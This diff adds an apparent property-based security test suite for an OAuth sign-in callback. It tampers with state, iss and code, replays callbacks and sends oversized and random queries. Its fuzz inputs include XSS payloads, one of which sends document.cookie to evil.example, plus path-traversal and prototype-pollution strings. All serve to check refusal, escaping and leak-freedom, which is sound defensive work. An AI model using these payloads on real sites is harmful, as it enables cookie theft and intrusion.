@@ -1,0 +1,311 @@
+/**
+ * The sign-in callback under attack, through the real broker (createBroker → signIn →
+ * loopback server → oauth4webapi checks) against the sandbox AS on 127.0.0.1.
+ *
+ * The loopback server's own surface (stray paths → 404, a second /callback → 410, 414/431 for
+ * oversized requests, escaping in renderPage) is covered in test/auth/loopback.test.ts; here
+ * the whole flow is attacked: a real authorization response from the AS, tampered with
+ * (state, iss, code, extra and duplicate parameters, an error carrying markup), or random query
+ * strings. The properties: the flow is refused with a clear SIGN_IN_FAILED, no code is
+ * redeemed when state or iss is wrong, nothing is stored in the config dir, no grant is revoked
+ * by a replay, the page the browser sees has no unescaped markup, and no token leaks.
+ */
+import { mkdtemp, readdir, rm } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import fc from 'fast-check';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type Broker, createBroker } from '../../src/auth/broker.js';
+import { loadConfig } from '../../src/config.js';
+import { isWhataloError } from '../../src/errors.js';
+import { createLogger } from '../../src/log.js';
+import { fuzzRuns, suiteFigures } from '../helpers/figures.js';
+import { sweepForTokens } from '../helpers/leaks.js';
+import { type TestSandbox, startTestSandbox } from '../helpers/sandbox.js';
+
+const figures = suiteFigures('security/callback');
+let sb: TestSandbox;
+const dirs: string[] = [];
+const logLines: string[] = [];
+const pages: string[] = [];
+
+beforeAll(async () => {
+  sb = await startTestSandbox({ autoApprove: 'first' });
+});
+afterAll(async () => {
+  const report = await sweepForTokens(sb, { texts: { log: logLines.join('\n'), pages: pages.join('\n') }, dirs });
+  figures.add('leaksFound', report.leaks.length);
+  expect(report.leaks).toEqual([]);
+  await sb.close();
+  await Promise.all(dirs.map((dir) => rm(dir, { recursive: true, force: true })));
+});
+
+async function freshBroker(): Promise<{ broker: Broker; dir: string }> {
+  const dir = await mkdtemp(path.join(os.tmpdir(), 'whatalo-callback-'));
+  dirs.push(dir);
+  const config = loadConfig({
+    WHATALO_ISSUER: sb.issuer,
+    WHATALO_API_BASE: sb.apiBase,
+    WHATALO_CONFIG_DIR: dir,
+    WHATALO_CREDENTIAL_STORE: 'file',
+    WHATALO_CREDENTIAL_KEY: 'callback-suite-passphrase',
+    WHATALO_LOGIN_TIMEOUT: '20',
+    BROWSER: 'none',
+  });
+  const logger = createLogger({ level: 'debug', write: (line) => logLines.push(line) });
+  return { broker: createBroker(config, { logger, requestedScopes: ['read:store'] }), dir };
+}
+
+/** What the AS redirects the browser to after auto-approval: the genuine authorization response. */
+async function genuineCallback(authorizationUrl: string): Promise<URL> {
+  const response = await fetch(authorizationUrl, { redirect: 'manual' });
+  await response.arrayBuffer();
+  const location = response.headers.get('location');
+  if (response.status !== 302 && response.status !== 303) throw new Error(`authorize answered ${response.status}`);
+  return new URL(location!);
+}
+
+/** The browser's visit of a callback URL: status and body (or the network error). */
+async function visit(url: string): Promise<{ status: number; body: string }> {
+  try {
+    const response = await fetch(url, { redirect: 'manual' });
+    const body = await response.text();
+    pages.push(body);
+    return { status: response.status, body };
+  } catch (error) {
+    return { status: 0, body: String(error) };
+  }
+}
+
+/** No markup but the page template's own: every reflected `<`, `>`, quote is an entity. */
+function expectSafePage(html: string): void {
+  const template = /<!doctype html>|<\/?(?:html|head|title|style|body|h1|p)>|<html lang="en">|<meta [^<>]*>/gi;
+  const rest = html.replace(/<style>[^<]*<\/style>/, '').replace(template, '');
+  expect(rest).not.toMatch(/[<>]/);
+}
+
+/** Grants with an active token (auto-approval also creates a grant for every code never redeemed). */
+async function liveGrants() {
+  return (await sb.grants()).filter((g) => !g.revoked && g.tokens.some((t) => t.active));
+}
+
+function refused(error: unknown): boolean {
+  return isWhataloError(error, 'SIGN_IN_FAILED') || isWhataloError(error, 'AS_PROTOCOL');
+}
+
+async function expectNothingStored(dir: string): Promise<void> {
+  const files = await readdir(dir, { recursive: true });
+  expect(files.filter((f) => /credentials\.enc$|clients\.json$|accounts\.json$/.test(String(f)))).toEqual([]);
+}
+
+/**
+ * One sign-in through `broker` where the "browser" visits `tamper(genuine callback)` instead
+ * of the genuine one. Resolves to the error the flow ended with and the page the browser saw.
+ */
+async function tamperedSignIn(broker: Broker, tamper: (genuine: URL, redirectUri: string) => string): Promise<{ error: unknown; page: { status: number; body: string } }> {
+  let page: Promise<{ status: number; body: string }> | undefined;
+  let error: unknown;
+  try {
+    await broker.ensureAccess('read:store', {
+      async presentUrl(url) {
+        const redirectUri = new URL(url).searchParams.get('redirect_uri')!;
+        const genuine = await genuineCallback(url);
+        // Not awaited: the callback is answered only after the flow has judged it.
+        page = visit(tamper(genuine, redirectUri));
+      },
+    });
+  } catch (caught) {
+    error = caught;
+  }
+  return { error, page: await page! };
+}
+
+type Op = { kind: 'keep' } | { kind: 'drop' } | { kind: 'replace'; value: string } | { kind: 'twice' };
+const hostileText = fc.oneof(
+  fc.string({ maxLength: 80 }),
+  fc.string({ unit: 'grapheme', maxLength: 40 }),
+  fc.constantFrom('<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'https://evil.example', 'http://127.0.0.1:1', '\u0000', '%00', '../../etc/passwd', 'NaN', '__proto__', 'constructor'),
+);
+const op = (allowReplace: fc.Arbitrary<string>): fc.Arbitrary<Op> =>
+  fc.oneof(
+    fc.constant<Op>({ kind: 'keep' }),
+    fc.constant<Op>({ kind: 'drop' }),
+    fc.constant<Op>({ kind: 'twice' }),
+    allowReplace.map<Op>((value) => ({ kind: 'replace', value })),
+  );
+const extraKey = fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('error', 'error_description', 'error_uri', '__proto__', 'constructor', 'prototype', 'response', 'code_verifier'));
+
+function apply(params: URLSearchParams, name: string, operation: Op, genuine: string | null): void {
+  switch (operation.kind) {
+    case 'keep':
+      break;
+    case 'drop':
+      params.delete(name);
+      break;
+    case 'replace':
+      params.set(name, operation.value);
+      break;
+    case 'twice':
+      if (genuine !== null) params.append(name, genuine);
+      break;
+  }
+}
+
+describe('a genuine authorization response, tampered with', () => {
+  it('is refused with SIGN_IN_FAILED; a wrong state or iss never redeems the code; nothing is stored; the page is safe', async () => {
+    const { broker, dir } = await freshBroker();
+    let cases = 0;
+    await fc.assert(
+      fc.asyncProperty(
+        fc.record({
+          state: op(hostileText),
+          iss: op(fc.oneof(hostileText, fc.constant('http://127.0.0.1:9'), fc.constant(sb.issuer + '/'))),
+          code: op(hostileText),
+          extras: fc.array(fc.tuple(extraKey, hostileText), { maxLength: 4 }),
+        }),
+        async ({ state, iss, code, extras }) => {
+          // Only the untouched answer may succeed; every case here changes something that matters.
+          fc.pre(state.kind !== 'keep' || iss.kind !== 'keep' || code.kind !== 'keep' || extras.some(([k]) => ['state', 'iss', 'code', 'error'].includes(k)));
+          cases++;
+          const before = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
+          const outcome = await tamperedSignIn(broker, (genuine, redirectUri) => {
+            const params = new URLSearchParams(genuine.search);
+            apply(params, 'state', state, genuine.searchParams.get('state'));
+            apply(params, 'iss', iss, genuine.searchParams.get('iss'));
+            apply(params, 'code', code, genuine.searchParams.get('code'));
+            for (const [key, value] of extras) params.append(key, value);
+            return `${redirectUri}?${params}`;
+          });
+          // SIGN_IN_FAILED for a callback that fails its checks; AS_PROTOCOL when state and iss
+          // are right (so it came from the AS) but the answer lacks a usable code.
+          expect(refused(outcome.error), String(outcome.error)).toBe(true);
+          expect(outcome.page.status).toBe(400);
+          expectSafePage(outcome.page.body);
+          const after = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
+          if (state.kind !== 'keep' || iss.kind !== 'keep') expect(after).toBe(before); // the code was never sent
+          await expectNothingStored(dir);
+        },
+      ),
+      { numRuns: fuzzRuns(0.1, 60) },
+    );
+    figures.add('fuzzCases', cases);
+    // Not one token was issued.
+    expect(await liveGrants()).toEqual([]);
+  });
+
+  it('an error_description carrying markup reaches the page escaped, and is refused', async () => {
+    const { broker, dir } = await freshBroker();
+    let cases = 0;
+    const markup = fc.oneof(
+      fc.constantFrom('<script>alert(document.cookie)</script>', '<img src=x onerror="fetch(`//evil.example?`+document.cookie)">', "'><svg/onload=alert(1)>", '</p><h1>Signed in</h1><p>', '&lt;b&gt; &amp;'),
+      fc.array(fc.constantFrom('<', '>', '"', "'", '&', 'script', ' ', '/', '=', 'on', 'x'), { maxLength: 40 }).map((parts) => parts.join('')),
+    );
+    await fc.assert(
+      fc.asyncProperty(fc.constantFrom('invalid_scope', 'server_error', 'invalid_request', 'x<y>'), markup, async (error, description) => {
+        cases++;
+        const outcome = await tamperedSignIn(broker, (genuine, redirectUri) => {
+          const params = new URLSearchParams({ error, error_description: description, state: genuine.searchParams.get('state')!, iss: genuine.searchParams.get('iss')! });
+          return `${redirectUri}?${params}`;
+        });
+        expect(isWhataloError(outcome.error, 'SIGN_IN_FAILED')).toBe(true);
+        expect(outcome.page.status).toBe(400);
+        expectSafePage(outcome.page.body);
+        await expectNothingStored(dir);
+      }),
+      { numRuns: fuzzRuns(0.02, 30) },
+    );
+    figures.add('fuzzCases', cases);
+  });
+});
+
+describe('random query strings on the callback', () => {
+  it('never sign in, never store anything, never crash; the page is safe', async () => {
+    const { broker, dir } = await freshBroker();
+    let cases = 0;
+    const query = fc.oneof(
+      fc.string({ maxLength: 200 }),
+      fc.string({ unit: 'binary', maxLength: 100 }).map((s) => encodeURIComponent(s)),
+      fc.dictionary(fc.oneof(extraKey, fc.constantFrom('code', 'state', 'iss')), hostileText, { maxKeys: 6 }).map((d) => {
+        const params = new URLSearchParams();
+        for (const key of Object.keys(d)) params.append(key, d[key]!);
+        return params.toString();
+      }),
+    );
+    await fc.assert(
+      fc.asyncProperty(query, async (q) => {
+        cases++;
+        const outcome = await tamperedSignIn(broker, (_genuine, redirectUri) => `${redirectUri}?${q.replace(/#/g, '%23')}`);
+        expect(isWhataloError(outcome.error, 'SIGN_IN_FAILED'), String(outcome.error)).toBe(true);
+        expect(outcome.page.status).toBe(400);
+        expectSafePage(outcome.page.body);
+        await expectNothingStored(dir);
+      }),
+      { numRuns: fuzzRuns(0.1, 60) },
+    );
+    figures.add('fuzzCases', cases);
+    expect(await liveGrants()).toEqual([]);
+  });
+});
+
+describe('specific attacks', () => {
+  it('a replayed callback from an earlier sign-in is refused and does not redeem its code again (no grant revoked by the client)', async () => {
+    // Sign-in A completes; its callback URL is kept by the attacker.
+    const a = await freshBroker();
+    let replay = '';
+    await a.broker.ensureAccess('read:store', {
+      async presentUrl(url) {
+        const genuine = await genuineCallback(url);
+        replay = genuine.search;
+        void visit(genuine.href);
+      },
+    });
+    const live = await liveGrants();
+    expect(live).toHaveLength(1);
+    const tokenRequests = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
+
+    // Sign-in B receives A's callback (state from another flow) instead of its own.
+    const b = await freshBroker();
+    const outcome = await tamperedSignIn(b.broker, (_genuine, redirectUri) => `${redirectUri}${replay}`);
+    expect(isWhataloError(outcome.error, 'SIGN_IN_FAILED')).toBe(true);
+    expect((outcome.error as Error).message).toMatch(/does not belong to this sign-in/);
+    expectSafePage(outcome.page.body);
+    await expectNothingStored(b.dir);
+    // A's code was not presented again (that would revoke A's grant, OAuth 2.1 §4.1.3).
+    expect((await sb.stats()).requests['POST /oauth/token'] ?? 0).toBe(tokenRequests);
+    expect((await sb.grants()).find((g) => g.id === live[0]!.id)!.revoked).toBe(false);
+    // And A still works.
+    await expect(a.broker.ensureAccess('read:store')).resolves.toMatchObject({ storeId: sb.stores[0]!.id });
+    figures.add('hostileInputs');
+  });
+
+  it('a huge query string is answered 414 and does not end or win the flow', async () => {
+    const { broker, dir } = await freshBroker();
+    let page414: { status: number; body: string } | undefined;
+    const outcome = await tamperedSignIn(broker, (genuine, redirectUri) => {
+      const huge = `${redirectUri}${genuine.search}&pad=${'A'.repeat(16 * 1024)}`;
+      // The oversized copy first (refused at the door), then a forged one ends the flow.
+      void visit(huge).then((p) => (page414 = p));
+      return `${redirectUri}?state=forged&code=x&iss=${encodeURIComponent(sb.issuer)}`;
+    });
+    expect(isWhataloError(outcome.error, 'SIGN_IN_FAILED')).toBe(true);
+    await expect.poll(() => page414?.status).toBeDefined();
+    expect([0, 414, 431]).toContain(page414!.status);
+    await expectNothingStored(dir);
+    figures.add('hostileInputs', 2);
+  });
+
+  it('a callback whose iss names another server is refused as a mix-up, without redeeming the code', async () => {
+    const { broker, dir } = await freshBroker();
+    const before = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
+    const outcome = await tamperedSignIn(broker, (genuine, redirectUri) => {
+      const params = new URLSearchParams(genuine.search);
+      params.set('iss', 'https://app.whatalo.com');
+      return `${redirectUri}?${params}`;
+    });
+    expect(isWhataloError(outcome.error, 'SIGN_IN_FAILED')).toBe(true);
+    expect((outcome.error as Error).message).toMatch(/did not come from/);
+    expect((await sb.stats()).requests['POST /oauth/token'] ?? 0).toBe(before);
+    await expectNothingStored(dir);
+    figures.add('hostileInputs');
+  });
+});
